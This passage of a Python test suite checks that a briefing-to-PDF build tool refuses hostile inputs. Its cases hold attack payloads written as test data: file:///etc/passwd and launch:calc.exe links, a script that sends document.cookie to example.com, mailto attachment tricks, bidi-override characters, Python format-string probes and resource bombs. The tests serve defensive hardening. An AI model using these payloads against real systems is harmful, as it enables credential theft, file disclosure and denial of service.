        BUILD, 1, [NOT_BUILT, FAILED_LINE, FAILED + LINK.format("file:///etc/passwd")],
    ),
    Case(
        "template-smb-link",
        template('<a href="smb://host/share">x</a>'),
        BUILD, 1, [NOT_BUILT, FAILED_LINE, FAILED + LINK.format("smb://host/share")],
    ),
    Case(
        "template-launch-link",
        template('<a href="launch:calc.exe">x</a>'),
        BUILD, 1, [NOT_BUILT, FAILED_LINE, FAILED + LINK.format("launch:calc.exe")],
    ),
    Case(
        "template-relative-link-would-leak-the-build-path",
        template('<a href="notes.html">x</a>'),
        BUILD, 1, [NOT_BUILT, FAILED_LINE, FAILED + LINK.format("file://{root}/notes.html")],
    ),
    Case(
        "template-web-and-internal-links-are-kept",
        template('<p id="here"><a href="https://example.org/report">a</a> <a href="mailto:desk@example.org">b</a> '
                 '<a href="#here">c</a></p>'),
        BUILD, 0, [BUILT, BUILT_LINE], rebuilds=True, html_has=('<a href="https://example.org/report">a</a>',),
    ),
    # 5. Bidi controls and tag characters: refused in content with their place, and on the page from anywhere.
    Case(
        "string-bidi-embedding",
        edit("en", POINT, '      - "from \u202b411 to 300\u202c billion"\n' + POINT),
        BUILD, 1,
        [f"error: {{en}}:{{line}}: {FIELD}: the bidi embedding U+202B is not allowed: "
         "it makes text read other than it prints", ONE],
        at=("en", "from \u202b"),
    ),
    Case(
        "string-bidi-isolate",
        edit("en", POINT, '      - "from \u2067411\u2069 to 300"\n' + POINT),
        BUILD, 1,
        [f"error: {{en}}:{{line}}: {FIELD}: the bidi isolate U+2067 is not allowed: "
         "it makes text read other than it prints", ONE],
        at=("en", "from \u2067"),
    ),
    Case(
        "string-right-to-left-mark",
        edit("en", POINT, '      - "from \u200f411 to 300"\n' + POINT),
        BUILD, 1,
        [f"error: {{en}}:{{line}}: {FIELD}: the bidi mark U+200F is not allowed: "
         "it makes text read other than it prints", ONE],
        at=("en", "from \u200f"),
    ),
    Case(
        "string-tag-characters",
        edit("en", POINT, '      - "Flag \U000e0067\U000e0062 here"\n' + POINT),
        BUILD, 1,
        [f"error: {{en}}:{{line}}: {FIELD}: the tag character U+E0067 is not allowed: it prints as nothing", ONE],
        at=("en", "Flag"),
    ),
    Case(
        "template-bidi-control-as-an-entity",
        template("<p>from &#x202b;411 to 300&#x202c;</p>"),
        BUILD, 1, [NOT_BUILT, FAILED_LINE, FAILED + HIDDEN.format("202B", "from")],
    ),
    Case(
        "catalog-bidi-control",
        catalog_entry("Key points", "Puntos \u202eclave"),
        ES_BUILD, 1,
        [NOT_BUILT, ES_FAILED_LINE,
         ES_FAILED + "locale/es/LC_MESSAGES/messages.po:{line}: Key points: "
         "the character U+202E is not allowed in a label"],
        at=("es-po", 'msgid "Key points"'),
    ),
    # 6. Every read is capped by the bytes read.
    Case(
        "content-file-is-a-link-to-dev-zero",
        symlink("en", "/dev/zero"),
        BUILD, 1, ["error: {en}:1: the file is not a regular file; not read", ONE],
    ),
    Case(
        "content-file-is-a-fifo",
        fifo("en"),
        BUILD, 1, ["error: {en}:1: the file is not a regular file; not read", ONE],
    ),
    Case(
        "styles-hold-a-file-of-1-5-gb",
        sparse("styles/huge.bin", 1536 * 1024 * 1024),
        BUILD, 0, [BUILT, BUILT_LINE], rebuilds=True,
    ),
    Case(
        "styles-hold-a-huge-stylesheet",
        sparse("styles/themes/modern.css", 1536 * 1024 * 1024),
        BUILD, 1, [NOT_BUILT, FAILED_LINE, FAILED + "{root}/{modern}: the stylesheet is larger than 2 MiB; not read"],
    ),
    Case(
        "one-unreadable-style-fails-its-target-alone",
        sparse("styles/themes/economy.css", 3 * 1024 * 1024),
        ["build", "-j", "1", "--lang", "en", "--layout", "sheet", "--style", "modern,economy", "--paper", "a4"], 1,
        [re.compile(r"2 targets: 1 built, 0 unchanged, 1 failed; in dist/ \(\d+\.\d s\)"),
         re.compile(r"\[1/2\] failed china-lac-2021/en/sheet-economy-a4 \(\d+\.\d s\)"),
         re.compile(r"\[2/2\] built china-lac-2021/en/sheet-modern-a4 \(\d+\.\d s\)"),
         "error: china-lac-2021/en/sheet-economy-a4: {root}/styles/themes/economy.css: "
         "the stylesheet is larger than 2 MiB; not read"],
        rebuilds=True,
    ),
    # 7. The project's folders must be the project's.
    Case(
        "templates-folder-is-a-symlink-outside",
        folder_symlink("templates"),
        BUILD, 1, ["error: templates/ leads outside the project (to {outside}/templates); refused"],
    ),
    Case(
        "styles-folder-is-a-symlink-outside",
        folder_symlink("styles"),
        BUILD, 1, ["error: styles/ leads outside the project (to {outside}/styles); refused"],
    ),
    Case(
        "symlink-inside-the-style-folder-is-followed",
        both(write("styles/house/modern.css", "/* extends: !base */\n:root { --accent: #0b3d91; }\n"),
             symlink("modern", "../house/modern.css")),
        BUILD, 0, [BUILT, BUILT_LINE], rebuilds=True,
    ),
    # 8. Templates see the labels' lookups, not the catalog object.
    Case(
        "template-labels-load-a-catalog-of-the-machine",
        template("{{ labels.load('/usr/share/locale/fr/LC_MESSAGES/sudo.mo', 'fr', 'sudo') }}"),
        BUILD, 1,
        [NOT_BUILT, FAILED_LINE,
         FAILED + "template: 'briefpress.render.catalogs.Labels object' has no attribute 'load'"],
    ),
    # 9. Names reach the terminal escaped; a briefing's folder name is a slug.
    Case(
        "briefing-folder-name-with-escape-sequences",
        lambda ctx: shutil.copytree(ctx.root / "content" / "china-lac-2021",
                                    ctx.root / "content" / "x\x1b[2K\x1b[32mall good\x1b[0m"),
        ["build", "--layout", "sheet"], 1,
        # Outside a terminal click itself strips escape sequences from the path; the name is escaped on any stream.
        ["error: content/xall good/briefing.yaml:1: the folder name "
         "'x\\x1b[2K\\x1b[32mall good\\x1b[0m' is not a briefing name: use lowercase letters, digits and hyphens, "
         "as in 'x-2k-32mall-good-0m'", ONE],
    ),
    # 11. One clear line each.
    Case(
        "schema-figure-value-overflows",
        edit("spec", "value: 42.3", "value: 1e999999999"),
        BUILD, 1,
        ["error: {spec}:{line}: figures[2].value: the number is too large: "
         "a figure has at most 18 digits before the point", ONE],
        at=("spec", "value: 1e999999999"),
    ),
    Case(
        "check-figure-value-overflows",
        edit("spec", "value: 42.3", "value: 1e999999999"),
        ["check"], 1,
        ["error: {spec}:{line}: figures[2].value: the number is too large: "
         "a figure has at most 18 digits before the point", ONE],
        at=("spec", "value: 1e999999999"),
    ),
    Case(
        "yaml-nested-900-levels",
        deep_yaml(900),
        BUILD, 1, ["error: {en}:{line}: values nested more than 32 levels deep are not allowed", ONE],
        at=("en", "x: [[["),
    ),
    Case(
        "catalog-unknown-placeholder",
        catalog_entry("{value} each", "{valor} cada uno"),
        ES_BUILD, 1,
        [NOT_BUILT, ES_FAILED_LINE,
         ES_FAILED + "locale/es/LC_MESSAGES/messages.po:{line}: {{value}} each: "
         "the placeholder {{valor}} is not the label's (it has {{value}})"],
        at=("es-po", 'msgid "{value} each"'),
    ),
    Case(
        "catalog-placeholder-reads-python-internals",
        catalog_entry("{value} each", "{value.__class__.__mro__} cada uno"),
        ES_BUILD, 1,
        [NOT_BUILT, ES_FAILED_LINE,
         ES_FAILED + "locale/es/LC_MESSAGES/messages.po:{line}: {{value}} each: "
         "the placeholder {{value.__class__.__mro__}} is not a plain {{name}}"],
        at=("es-po", 'msgid "{value} each"'),
    ),
    Case(
        "output-folder-blocked-by-a-file",
        blocked("dist/china-lac-2021/es"),
        # A copied project has new paths, so the en target is built again, beside the blocked one.
        ["build", "-j", "1", "--lang", "en,es", "--layout", "sheet", "--style", "modern", "--paper", "a4"], 1,
        [re.compile(r"2 targets: 1 built, 0 unchanged, 1 failed; in dist/ \(\d+\.\d s\)"),
         re.compile(r"\[1/2\] built china-lac-2021/en/sheet-modern-a4 \(\d+\.\d s\)"),
         re.compile(r"\[2/2\] failed china-lac-2021/es/sheet-modern-a4 \(\d+\.\d s\)"),
         ES_FAILED + "cannot write its outputs: dist/china-lac-2021/es: a file stands where a folder must be"],
        rebuilds=True,
    ),
    Case(
        "template-data-url-of-3-mb-is-not-echoed-whole",
        template("{% set a = 'A' * 1000000 %}<img alt='x' src='data:image/png;base64,{{ a }}{{ a }}{{ a }}'>"),
        BUILD, 1,
        [NOT_BUILT, FAILED_LINE, re.compile(
            re.escape(FAILED + "Failed to load image at 'data:image/png;base64," + "A" * 38 + "..." + "A" * 20
                      + " (3,000,022 characters)': ") + ".{0,300}")],
    ),
    Case(
        "css-import-loop",
        both(write("styles/a.css", '@import "b.css";'), write("styles/b.css", '@import "a.css";'),
             base_style('@import "styles/a.css";')),
        BUILD, 1,
        [NOT_BUILT, FAILED_LINE, FAILED + "Failed to load stylesheet at file://{root}/styles/a.css : "
         + REFUSED.format(url="file://{root}/styles/a.css", why="read 16 times for one document (an @import loop?)")],
    ),
    Case(
        "svg-image-imports-a-stylesheet",
        both(write("styles/mark.svg", '<svg xmlns="http://www.w3.org/2000/svg" width="8" height="8">'
                   "<style>@import url(base.css);</style><rect width='8' height='8'/></svg>"),
             template('<img alt="mark" src="styles/mark.svg">')),
        BUILD, 1,
        [NOT_BUILT, FAILED_LINE, FAILED + "Failed to load image at 'file://{root}/styles/mark.svg': "
         + REFUSED.format(url="file://{root}/styles/mark.svg",
                          why="an SVG image may not declare entities or hold a stylesheet")],
    ),
    Case(
        "svg-image-declares-entities",
        both(write("styles/mark.svg", '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa">]>'
                   '<svg xmlns="http://www.w3.org/2000/svg" width="8" height="8"><text>&a;</text></svg>'),
             template('<img alt="mark" src="styles/mark.svg">')),
        BUILD, 1,
        [NOT_BUILT, FAILED_LINE, FAILED + "Failed to load image at 'file://{root}/styles/mark.svg': "
         + REFUSED.format(url="file://{root}/styles/mark.svg",
                          why="an SVG image may not declare entities or hold a stylesheet")],
    ),
]


def moved_outside(folder: str) -> Setup:
    """Move an output folder outside the project and leave a symlink to it in its place."""

    def setup(ctx: Ctx) -> None:
        path = ctx.root / folder
        target = ctx.outside / path.name
        if path.exists():
            shutil.move(path, target)
        else:
            target.mkdir()
        path.symlink_to(target)

    return setup


def catalog_header(old: str, new: str) -> Setup:
    """Give the project a Spanish catalog whose header has ``new`` for ``old``."""

    def setup(ctx: Ctx) -> None:
        text = (REPO / "locale" / "es" / "LC_MESSAGES" / "messages.po").read_text(encoding="utf-8")
        path = ctx.root / FILES["es-po"]
        path.parent.mkdir(parents=True)
        path.write_text(text.replace(old, new, 1), encoding="utf-8")

    return setup


ACTIVE = "the page holds a <{}> element: a briefing runs and embeds nothing"
CASES += [
    # The HTML beside the PDF (which the preview serves) runs nothing either.
    Case("template-script-element", template("<script>fetch('https://example.com/?'+document.cookie)</script>"),
         BUILD, 1, [NOT_BUILT, FAILED_LINE, FAILED + ACTIVE.format("script")]),
    Case("template-iframe", template('<iframe src="https://example.com/"></iframe>'),
         BUILD, 1, [NOT_BUILT, FAILED_LINE, FAILED + ACTIVE.format("iframe")]),
    Case("template-object", template('<object data="styles/x.svg"></object>'),
         BUILD, 1, [NOT_BUILT, FAILED_LINE, FAILED + ACTIVE.format("object")]),
    Case("template-event-handler", template('<p onclick="alert(1)">x</p>'),
         BUILD, 1, [NOT_BUILT, FAILED_LINE, FAILED + "the page holds an event handler (onclick= on <p>): "
                    "a briefing runs nothing"]),
    Case("template-meta-refresh", template('<meta http-equiv="refresh" content="0;url=https://example.com/">'),
         BUILD, 1,
         [NOT_BUILT, FAILED_LINE, FAILED + "the page holds <meta http-equiv='refresh'>: not in a briefing"]),
    Case("template-mailto-with-attach",
         template('<a href="mailto:desk@example.org?attach=/etc/passwd&amp;body=hi">x</a>'),
         BUILD, 1,
         [NOT_BUILT, FAILED_LINE, FAILED + LINK.format("mailto:desk@example.org?attach=/etc/passwd&body=hi")]),
    Case(
        "string-mailto-with-attach",
        edit("en", POINT, '      - "Write to [the desk](mailto:desk@example.org?attach=/etc/passwd)."\n' + POINT),
        BUILD, 1,
        [f"error: {{en}}:{{line}}: {FIELD}: the mailto: link 'mailto:desk@example.org?attach=/etc/passwd' "
         "may fill in only bcc, body, cc, subject, to", ONE],
        at=("en", "Write to"),
    ),
    # Attachments: a PDF that would carry a file is not written.
    Case(
        "template-attaches-a-project-style-file",
        both(write("styles/notes.txt", "notes\n"), template('<link rel="attachment" href="styles/notes.txt">')),
        BUILD, 1,
        [NOT_BUILT, FAILED_LINE, FAILED + "the PDF would hold an attached file (/EmbeddedFiles); "
         "a briefing has none, so it was not written"],
    ),
    Case(
        "template-attachment-annotation",
        both(write("styles/invoice.html", "<p>invoice</p>\n"),
             template('<a rel="attachment" href="styles/invoice.html" download="invoice.pdf.html">Open</a>')),
        BUILD, 1,
        [NOT_BUILT, FAILED_LINE, FAILED + "the PDF would hold a /FileAttachment annotation; only links are allowed, "
         "so it was not written"],
    ),
    # Text a stylesheet puts on the page.
    Case(
        "css-content-with-a-bidi-override",
        style('h2::after { content: " \\202E 300 to 411"; }'),
        BUILD, 1,
        [NOT_BUILT, FAILED_LINE, re.compile(re.escape(FAILED + "the page holds U+202E, which prints as nothing or "
                                                      "reorders the text around it (in ") + ".*" + re.escape(
            "); a stylesheet put it there"))],
    ),
    Case(
        "css-nested-too-deeply",
        style("x { color: " + "(" * 50000 + ")" * 50000 + " }"),
        BUILD, 1, [NOT_BUILT, FAILED_LINE, FAILED + "{root}/{modern}: the stylesheet is nested too deeply to read"],
    ),
    # Outputs stay in the output folder.
    Case(
        "output-folder-is-a-symlink-outside",
        moved_outside("dist/china-lac-2021/es"),
        ES_BUILD, 1,
        [NOT_BUILT, ES_FAILED_LINE, ES_FAILED + "cannot write its outputs: dist/china-lac-2021/es: "
         "leads outside dist/ (to {outside}/es); refused"],
    ),
    Case(
        "dist-is-a-symlink-outside",
        moved_outside("dist"),
        BUILD, 1,
        ["error: dist/ leads outside the project (to {outside}/dist); refused: remove the link, "
         "or name the output folder with --out"],
    ),
    Case(
        "pdf-path-taken-by-a-folder",
        lambda ctx: (ctx.root / "dist" / "china-lac-2021" / "es" / "sheet-modern-a4.pdf").mkdir(parents=True),
        ES_BUILD, 1,
        [NOT_BUILT, ES_FAILED_LINE,
         ES_FAILED + "cannot write its outputs: dist/china-lac-2021/es/sheet-modern-a4.pdf: "
         "a folder stands where the file must be"],
    ),
    # Catalogs that would make Babel run away, fail or format.
    Case(
        "catalog-plural-forms-bomb",
        catalog_header("nplurals=3", "nplurals=300000000"),
        ["check"], 1,
        ["error: {es-po}:{line}: Plural-Forms: nplurals=300000000: a language has 1 to 6 plural forms", ONE],
        at=("es-po", "nplurals=300000000"),
    ),
    Case(
        "catalog-charset-unknown",
        catalog_header("charset=utf-8", "charset=nonexistent"),
        ["check"], 1,
        ["error: {es-po}:{line}: Content-Type: charset nonexistent: a catalog must be UTF-8", ONE],
        at=("es-po", "charset=nonexistent"),
    ),
    Case(
        "catalog-python-format",
        catalog_entry("Key figures", "Cifras %(evil)s"),
        ["check"], 1,
        ["error: {es-po}:{line}: Key figures: '%(evil)s' is a Python format the label does not have; "
         "it would print as written", ONE],
        at=("es-po", 'msgid "Key figures"'),
    ),
    # Characters that print as nothing, where they would mislead.
    Case(
        "url-with-a-zero-width-space",
        edit("spec", "https://cpifa.org/", "https://cpifa\u200b.org/"),
        BUILD, 1,
        [re.compile(r"error: \{spec\}:\d+: source\.url: 'https://cpifa\\u200b\.org/.*' is not a valid URL: "
                    r"write an http:// or https:// address in printable ASCII \(percent-encode the rest\)"), ONE],
    ),
    Case(
        "string-invisible-operator",
        edit("en", POINT, '      - "from 411\u2062300"\n' + POINT),
        BUILD, 1,
        [f"error: {{en}}:{{line}}: {FIELD}: the invisible character U+2062 is not allowed: it prints as nothing", ONE],
        at=("en", "from 411"),
    ),
    # Template errors at their file and line.
    Case(
        "template-division-by-zero",
        write("sheet", '{% extends "!base/layouts/sheet.html.j2" %}{% block body %}\n'
              "{{ 1 / 0 }}{{ super() }}{% endblock %}"),
        BUILD, 1,
        [NOT_BUILT, FAILED_LINE,
         FAILED + "templates/layouts/sheet.html.j2:2: template: ZeroDivisionError: division by zero"],
    ),
    Case(
        "template-format-filter-width",
        template('{{ ("%0999999999d" | format(1)) | length }}'),
        BUILD, 1, [NOT_BUILT, FAILED_LINE, FAILED + "template: a field 999,999,999 characters wide; at most 10,000"],
    ),
    Case(
        "check-template-that-is-a-fifo",
        lambda ctx: (ctx.root / "templates" / "partials").mkdir(parents=True)
        or os.mkfifo(ctx.root / "templates" / "partials" / "pipe.html.j2"),
        ["check"], 1,
        ["error: partials/pipe.html.j2:1: {root}/templates/partials/pipe.html.j2 is not a regular file; not read", ONE],
    ),
    Case(
        "check-template-that-is-a-link-to-dev-zero",
        lambda ctx: (ctx.root / "templates" / "partials").mkdir(parents=True)
        or (ctx.root / "templates" / "partials" / "zero.html.j2").symlink_to("/dev/zero"),
        ["check"], 1,
        ["error: partials/zero.html.j2:1: {root}/templates/partials/zero.html.j2 leads outside the template folders; "
         "refused", ONE],
    ),
    Case(
        "image-that-is-not-an-image",
        both(write("styles/logo.png", "not an image at all\n"), template('<img alt="logo" src="styles/logo.png">')),
        BUILD, 1,
        [NOT_BUILT, FAILED_LINE, FAILED + "Failed to load image at 'file://{root}/styles/logo.png': "
         "the file is not an image that can be read (PNG, JPEG, GIF, WebP or SVG)"],
    ),
    Case(
        "svg-image-imports-with-a-css-escape",
        both(write("styles/mark.svg", '<svg xmlns="http://www.w3.org/2000/svg" width="8" height="8">'
                   "<style>@\\69mport url(base.css);</style><rect width='8' height='8'/></svg>"),
             template('<img alt="mark" src="styles/mark.svg">')),
        BUILD, 1,
        [NOT_BUILT, FAILED_LINE, FAILED + "Failed to load image at 'file://{root}/styles/mark.svg': "
         + REFUSED.format(url="file://{root}/styles/mark.svg",
                          why="an SVG image may not declare entities or hold a stylesheet")],
    ),
]


# --- running a case ---------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def good_project(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A copy of the sample with the sheet built once: the PDF every case must leave alone."""
    root = tmp_path_factory.mktemp("good") / "project"
    shutil.copytree(SAMPLE, root / "content" / SAMPLE.name)
    with pytest.raises(SystemExit) as exit_info:
        main(BUILD, project=root)
    assert exit_info.value.code == 0
    return root


@pytest.fixture
def ctx(good_project: Path, tmp_path: Path) -> Ctx:
    root = tmp_path / "project"
    shutil.copytree(good_project, root, symlinks=True)
    canary_css = f'html::before {{ content: "{CANARY}" }}\n/* {CANARY} */\n'
    (tmp_path / "canary.css").write_text(canary_css, encoding="utf-8")
    (tmp_path / "canary.html.j2").write_text(f"<p>{CANARY}</p>\n", encoding="utf-8")
    return Ctx(root, tmp_path, 0)


@pytest.fixture
def listener():
    """A local port that must see no connection."""
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(1)
    server.setblocking(False)
    yield server
    server.close()


@pytest.fixture
def connections(monkeypatch) -> list:
    """Record (and refuse) every connection and name look-up made in this process."""
    calls: list = []

    def refuse(*args, **kwargs):
        calls.append(args)
        raise OSError("network refused in tests")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket.socket, "connect_ex", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    return calls


def _line(path: Path, needle: str) -> int:
    text = path.read_text(encoding="utf-8", errors="replace")
    assert text.count(needle) == 1, f"{needle!r} occurs {text.count(needle)} times in {path}"
    return text[: text.index(needle)].count("\n") + 1


def _everything_in(pdf: Path) -> bytes:
    """Return the PDF with every stream decompressed, its attachments and its extracted text."""
    flat = pdf.with_name(pdf.name + ".flat")
    subprocess.run(
        ["qpdf", "--qdf", "--object-streams=disable", "--decode-level=all", str(pdf), str(flat)],
        check=True,
        capture_output=True,
    )
    data = flat.read_bytes()
    flat.unlink()
    reader = PdfReader(pdf)
    for contents in reader.attachments.values():
        data += b"".join(contents)
    return data + "".join(page.extract_text() for page in reader.pages).encode("utf-8")


def _interrupted(root: Path, args: list[str], signum: int) -> tuple[int, str, str]:
    """Run a build of THREE as a process and send it ``signum`` while it renders the third target."""
    second = root / "dist" / "china-lac-2021" / "en" / "sheet-economy-a4.pdf"
    process = subprocess.Popen(
        [sys.executable, "-m", "briefpress", *args],
        cwd=root,
        env=child_env(),
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        preexec_fn=sigint_reaches_child,
    )
    deadline = time.monotonic() + 120
    while not second.exists() and time.monotonic() < deadline and process.poll() is None:
        time.sleep(0.02)
    time.sleep(0.2)  # inside the third target, which takes longer than this
    assert process.poll() is None, "the build ended before it could be interrupted"
    process.send_signal(signum)
    out, err = process.communicate(timeout=120)
    assert (second.parent / "sheet-modern-a4.pdf").read_bytes().startswith(b"%PDF-")
    assert second.read_bytes().startswith(b"%PDF-")
    assert not (second.parent / "sheet-formal-a4.pdf").exists()
    return process.returncode, out, err


def _expected(case: Case, ctx: Ctx) -> list[str | re.Pattern]:
    """Return the case's lines with {line}, {root}, {outside}, {port} and the FILES names filled in."""
    line = _line(ctx.root / FILES[case.at[0]], case.at[1]) if case.at else 0
    names = {
        "line": str(line), "root": str(ctx.root), "outside": str(ctx.outside), "port": str(ctx.port), "repo": str(REPO),
        **FILES,
    }
    expected: list[str | re.Pattern] = []
    for item in case.lines:
        if isinstance(item, re.Pattern):
            pattern = item.pattern
            for key, value in names.items():
                pattern = pattern.replace(f"\\{{{key}\\}}", re.escape(value))
            expected.append(re.compile(pattern))
        else:
            expected.append(item.format(**names))
    return expected


@pytest.mark.parametrize("case", CASES, ids=lambda case: case.id)
def test_bad_input(case: Case, ctx: Ctx, listener, connections, capsys, monkeypatch):
    ctx = Ctx(ctx.root, ctx.outside, listener.getsockname()[1])
    good = (ctx.root / GOOD).read_bytes()
    if case.setup:
        case.setup(ctx)
    monkeypatch.chdir(ctx.root)
    if case.signal:
        code, out, err = _interrupted(ctx.root, case.args, case.signal)
    else:
        with pytest.raises(SystemExit) as exit_info:
            main(case.args, project=ctx.root)
        code, (out, err) = exit_info.value.code, capsys.readouterr()
    output = out.splitlines() + err.splitlines()
    assert "Traceback" not in out + err
    assert "\x1b" not in out + err  # no raw escape sequence reaches the terminal
    assert "unexpected" not in out + err
    assert code == case.code, output
    expected = _expected(case, ctx)
    assert len(output) == len(expected), output
    for got, want in zip(output, expected, strict=True):
        if isinstance(want, re.Pattern):
            assert want.fullmatch(got), (got, want.pattern)
        else:
            assert got == want
    # Nothing left behind, nothing fetched, nothing from outside in any output.
    assert not [path for path in ctx.root.rglob("*") if path.name.endswith(".tmp")]
    assert connections == []
    with pytest.raises(BlockingIOError):
        listener.accept()
    pdf = ctx.root / GOOD
    if not case.rebuilds:
        assert pdf.read_bytes() == good
    for made in (pdf, pdf.with_suffix(".html")):
        data = _everything_in(made) if made.suffix == ".pdf" else made.read_bytes()
        assert CANARY.encode() not in data
        assert PASSWD.encode() not in data
    if case.rebuilds:
        html = pdf.with_suffix(".html").read_text(encoding="utf-8")
        for text in case.html_has:
            assert text in html
        text_of_pdf = pdf_text(pdf)
        for text in case.pdf_text_has:
            assert text in text_of_pdf
